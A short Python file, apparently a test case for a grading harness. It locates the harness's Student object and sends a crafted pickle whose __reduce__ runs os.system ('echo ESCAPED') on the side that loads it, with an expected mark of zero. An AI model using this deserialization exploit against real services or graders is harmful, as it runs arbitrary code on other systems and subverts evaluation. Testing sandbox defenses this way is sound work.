"""Sends a pickle that runs a command where it is loaded.

mark: 0
"""
import gc
import os
import pickle
import struct

(student,) = [thing for thing in gc.get_objects() if type(thing).__name__ == "Student"]


class Command:
    def __reduce__(self):
        return os.system, ("echo ESCAPED",)


def square(x):
    data = pickle.dumps(Command())
    student.connection.socket.sendall(struct.pack("!II", len(data), 0) + data)
